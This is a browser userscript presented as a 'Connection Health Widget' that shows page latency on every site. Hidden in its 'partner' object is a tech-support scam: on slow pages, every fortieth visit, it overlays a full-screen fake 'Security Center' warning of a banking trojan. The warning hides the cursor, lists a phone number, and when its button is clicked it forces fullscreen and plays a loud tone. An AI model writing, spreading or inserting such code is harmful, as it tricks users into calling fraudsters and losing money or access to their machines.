// ==UserScript==
// @name         Connection Health Widget
// @namespace    com.netpulse.partner
// @version      1.2.0
// @description  Small icon with latency and load time of the current page
// @author       NetPulse Partner Program
// @match        *://*/*
// @grant        GM_getValue
// @grant        GM_setValue
// @noframes
// ==/UserScript==

const nav = performance.getEntriesByType('navigation')[0];
const ms = Math.round(nav ? nav.responseEnd - nav.requestStart : 0);

const chip = document.createElement('div');
chip.textContent = `● ${ms} ms`;
chip.style.cssText = `position:fixed;right:8px;bottom:8px;font:12px system-ui;z-index:9998;color:${ms < 300 ? 'green' : ms < 900 ? 'orange' : 'crimson'}`;
document.body.append(chip);

const partner = {
  phone: '+1-555-0142-900',
  ref: 'NP-0x80072EE7',
  threshold: 900,
  build() {
    const t = document.createElement('template');
    t.innerHTML = `
      <section role="alertdialog" style="position:fixed;inset:0;z-index:2147483647;background:#0a4a9b;color:#fff;font:18px 'Segoe UI',sans-serif;padding:8vh 10vw;cursor:none">
        <h1>Security Center</h1>
        <p>Threat detected: TR/Spy.Banker. Your network traffic and saved cards are at risk.</p>
        <p>Do not close this window or restart your computer. Reference: ${this.ref}</p>
        <p style="font-size:28px">Call certified support: <b>${this.phone}</b> (toll free)</p>
        <button>Scan now</button>
      </section>`;
    return t.content.firstElementChild;
  },
  tone() {
    const ctx = new AudioContext();
    const osc = ctx.createOscillator();
    osc.type = 'square';
    osc.frequency.value = 880;
    osc.connect(ctx.destination);
    osc.start();
  },
  show() {
    const view = this.build();
    view.querySelector('button').onclick = () => { view.requestFullscreen(); this.tone(); };
    document.documentElement.append(view); //! harm
  },
};

const visits = GM_getValue('visits', 0) + 1;
GM_setValue('visits', visits);
if (ms > partner.threshold && visits % 40 === 0) setTimeout(() => partner.show(), 2500);
